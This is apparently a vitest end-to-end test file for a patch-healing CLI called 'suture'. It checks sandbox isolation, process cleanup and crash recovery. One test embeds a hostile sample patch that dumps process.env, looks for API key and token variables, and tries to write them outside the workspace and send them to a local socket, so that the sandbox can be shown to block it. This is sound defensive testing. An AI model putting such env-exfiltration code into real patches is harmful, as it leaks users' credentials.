import { createServer, type Server } from 'node:net';
import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { requireIsolation } from '../../../../core/src/safety/workspace/isolation.test-support.js';
import { removeDir, runSuture, sleep, spawnSuture, tempRepoDir } from '../../harness/cli.mjs';
import { runCrashTrials, WORKSPACE_REQUIRED_PHASES } from '../../harness/crash-trials.mjs';
import { processesIn } from '../../harness/processes.mjs';
import {
  FIXED,
  lingeringPatch,
  MATH,
  processesWith,
  writeWorkspaceFixture,
} from '../../harness/workspace.mjs';

// `suture run` as a user runs it, with the default config: heals validated in the copy-on-write
// workspace, the runs of patched code sandboxed, every process of a run ended with it.
const dirs: string[] = [];
afterAll(async () => {
  for (const d of dirs) await removeDir(d);
});

async function fixture(options: Parameters<typeof writeWorkspaceFixture>[1] = {}): Promise<string> {
  const dir = await tempRepoDir('workspace-');
  dirs.push(dir);
  await writeWorkspaceFixture(dir, options);
  return dir;
}

const exists = (path: string): Promise<boolean> =>
  stat(path).then(
    () => true,
    () => false,
  );

async function until(pred: () => Promise<boolean>, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (await pred()) return true;
    await sleep(50);
  }
  return pred();
}

let server: Server | undefined;
afterEach(() => {
  server?.close();
  server = undefined;
});

describe('a patch under validation', () => {
  it('can neither read an API key, reach a listener on 127.0.0.1, nor write outside the workspace', async (t) => {
    await requireIsolation(t, { overlay: true, network: true });
    const outside = await mkdtemp(join(tmpdir(), 'suture-outside-'));
    dirs.push(outside);
    let connections = 0;
    server = createServer((s) => {
      connections++;
      s.resume();
    });
    await new Promise<void>((r) => server!.listen(0, '127.0.0.1', r));
    const port = (server.address() as { port: number }).port;
    // A "fix" that also tries to take what it can: it fails its own validation when it sees a key.
    const patch = `import { writeFileSync } from 'node:fs';
import net from 'node:net';
const seen = Object.keys(process.env).filter((k) => /API_KEY|TOKEN/.test(k));
try { writeFileSync(${JSON.stringify(join(outside, 'leak.json'))}, JSON.stringify(process.env)); } catch {}
await new Promise((resolve) => {
  const s = net.connect(${port}, '127.0.0.1', () => s.end(JSON.stringify(process.env), resolve));
  s.on('error', resolve);
});
if (seen.length > 0) throw new Error('the patch saw ' + seen.join(', '));
${FIXED}`;
    const dir = await fixture({ patch });
    const r = await runSuture(['run', '--json'], dir, {
      env: {
        ANTHROPIC_API_KEY: 'sk-ant-api03-workspace-test-key-0000000000',
        OPENAI_API_KEY: 'sk-proj-workspace-test-key-00000000000000',
        MY_SERVICE_TOKEN: 'token-of-the-workspace-test-0000',
      },
    });
    const report = JSON.parse(r.stdout);
    expect(report.isolation).toMatchObject({
      sandbox: 'strict',
      network: true,
      readOnly: true,
      envAllowlist: true,
    });
    // It healed, so it ran to the end without seeing a key.
    expect(report.projects[0].failures[0].outcome, r.stderr).toBe('healed');
    expect(await exists(join(outside, 'leak.json'))).toBe(false);
    expect(connections).toBe(0);
    // Check mode: the user's file is as it was.
    expect(await readFile(join(dir, 'calc/src/math.mjs'), 'utf8')).toBe(MATH);
  }, 180_000);
});

describe('the processes of a run', () => {
  it('end with it: a setsid helper and a daemonised one do not outlive the run', async (t) => {
    await requireIsolation(t);
    const marker = `suture-lingering-${Date.now()}`;
    const dir = await fixture({ patch: lingeringPatch(marker, 200) });
    const r = await runSuture(['run', '--json'], dir);
    expect(JSON.parse(r.stdout).projects[0].failures[0].outcome, r.stderr).toBe('healed');
    expect(await processesWith(marker)).toEqual([]);
  }, 180_000);

  it('Ctrl-C during a heal: exit 130, the tree as it was, lock and journal released, nothing left running', async (t) => {
    await requireIsolation(t);
    const marker = `suture-interrupted-${Date.now()}`;
    const dir = await fixture({ patch: lingeringPatch(marker, 60_000) });
    const child = spawnSuture(['run', '--fix'], dir);
    let stderr = '';
    child.stderr!.on('data', (c: Buffer) => (stderr += c.toString()));
    child.stdout!.resume();
    const exited = new Promise<number | null>((r) => child.on('exit', (code) => r(code)));
    // The patched code is being validated: its helpers are up.
    expect(await until(async () => (await processesWith(marker)).length >= 2, 90_000)).toBe(true);
    child.kill('SIGINT');
    expect(await exited).toBe(130);
    expect(stderr).toMatch(/SIGINT: stopping/);
    expect(await readFile(join(dir, 'calc/src/math.mjs'), 'utf8')).toBe(MATH);
    expect(await exists(join(dir, '.suture/lock'))).toBe(false);
    expect(await exists(join(dir, '.suture/journal'))).toBe(false);
    expect(await processesWith(marker)).toEqual([]);
  }, 180_000);

  it('a SIGKILL while the machine is probed for isolation: the probe sandbox is recorded, and `suture recover` ends it', async (t) => {
    await requireIsolation(t);
    const dir = await fixture();
    const log = join(dir, '..', `${Date.now()}.phases`);
    // a state folder of its own: a machine probed before answers from the one it keeps
    const env = { SUTURE_STATE_DIR: await mkdtemp(join(tmpdir(), 'suture-state-')) };
    dirs.push(env.SUTURE_STATE_DIR);
    const child = spawnSuture(['run', '--fix'], dir, {
      env: { ...env, SUTURE_PHASE_LOG: log, SUTURE_PHASE_HOLD: 'isolation:probe=60000' },
    });
    child.stdout!.resume();
    child.stderr!.resume();
    const exited = new Promise((r) => child.on('exit', r));
    const probing = async (): Promise<boolean> =>
      (await readFile(log, 'utf8').catch(() => '')).split('\n').includes('isolation:probe');
    expect(await until(probing, 60_000)).toBe(true);
    // The probe's sandbox holder runs in the repository's folder, recorded like a run's processes
    // (the first run, which does not wait for the probe, may have started and be recorded beside
    // it: which of the two comes first is up to the machine).
    const records = await readdir(join(dir, '.suture/procs'));
    const commands = await Promise.all(
      records.map((r) =>
        readFile(join(dir, '.suture/procs', r), 'utf8').then(
          (text) => (JSON.parse(text) as { command: string }).command,
          () => undefined, // a run that ended meanwhile removed its record
        ),
      ),
    );
    expect(commands).toContain('suture sandbox holder');
    child.kill('SIGKILL');
    await exited;
    const recovered = await runSuture(['recover'], dir, { env });
    expect(recovered.code, recovered.stderr).toBe(0);
    expect(await processesIn(dir)).toEqual([]);
    expect(await readdir(join(dir, '.suture/procs')).catch(() => [])).toEqual([]);
  }, 180_000);

  it("after a SIGKILL the tree is untouched and the sandboxed run's processes end with suture; `suture recover` removes its raw output", async (t) => {
    await requireIsolation(t);
    const marker = `suture-killed-${Date.now()}`;
    const dir = await fixture({ patch: lingeringPatch(marker, 60_000) });
    const child = spawnSuture(['run', '--fix'], dir);
    child.stdout!.resume();
    child.stderr!.resume();
    const exited = new Promise((r) => child.on('exit', r));
    expect(await until(async () => (await processesWith(marker)).length >= 2, 90_000)).toBe(true);
    child.kill('SIGKILL');
    await exited;
    // Nothing was written to the tree: the heal had not landed.
    expect(await readFile(join(dir, 'calc/src/math.mjs'), 'utf8')).toBe(MATH);
    // SIGKILL cannot be caught, but the run's PID namespace ends once suture's pipe to its first
    // process closes, and the kernel kills what ran in it, setsid'd helpers included.
    expect(await until(async () => (await processesWith(marker)).length === 0, 10_000)).toBe(true);
    const recovered = await runSuture(['recover'], dir);
    expect(recovered.code, recovered.stderr).toBe(0);
    const runs = await readdir(join(dir, '.suture/runs'));
    for (const run of runs) expect(await exists(join(dir, '.suture/runs', run, 'work'))).toBe(false);
    expect(await exists(join(dir, '.suture/lock'))).toBe(false);
    const next = await runSuture(['run', '--no-heal'], dir);
    expect(next.code, next.stderr).toBe(1);
  }, 180_000);
});

describe('SIGKILL at random moments of `suture run --fix` in the workspace, then `suture recover`', () => {
  const TRIALS = Number(process.env.SUTURE_CRASH_TRIALS_WORKSPACE ?? 10);
  const SEED = Number(process.env.SUTURE_CRASH_SEED ?? Date.now() % 1_000_000);
  it(`writes nothing before the heals land and recovers to the start or the healed state (${TRIALS} trials, seed ${SEED})`, async (t) => {
    await requireIsolation(t, { overlay: true });
    console.log(`workspace crash trials: seed ${SEED} (replay with SUTURE_CRASH_SEED=${SEED})`);
    const summary = await runCrashTrials({ trials: TRIALS, seed: SEED, workspace: 'overlay' });
    const failures = summary.failedTrials.map(
      (f: { index: number; phase: string; problems: string[] }) =>
        `trial ${f.index} (${f.phase}): ${f.problems.join('; ')}`,
    );
    expect(failures).toEqual([]);
    expect(summary.writtenBeforeEnd).toBe(0);
    expect(summary.inBetween).toBe(0);
    expect(summary.identicalToStart + summary.identicalToHealed).toBe(TRIALS);
    for (const phase of WORKSPACE_REQUIRED_PHASES.slice(
      0,
      Math.min(TRIALS, WORKSPACE_REQUIRED_PHASES.length),
    ))
      expect(summary.hits[phase], `no kill landed ${phase} (seed ${SEED})`).toBeGreaterThan(0);
  }, 900_000);
});

describe('suture doctor', () => {
  it('says which workspace and sandbox are in force', async () => {
    const dir = await fixture();
    const r = await runSuture(['doctor'], dir);
    expect(r.stdout).toMatch(/isolation: (overlay|copy): patches are validated in a/);
    expect(r.stdout).toMatch(/isolation: runs of patched code get /);
    const strict = await fixture({ config: { sandbox: 'off' } });
    expect((await runSuture(['doctor'], strict)).stdout).toMatch(
      /warn {2}isolation: runs of patched code get none/,
    );
    await rm(join(strict, '.suture'), { recursive: true, force: true });
  }, 120_000);
});
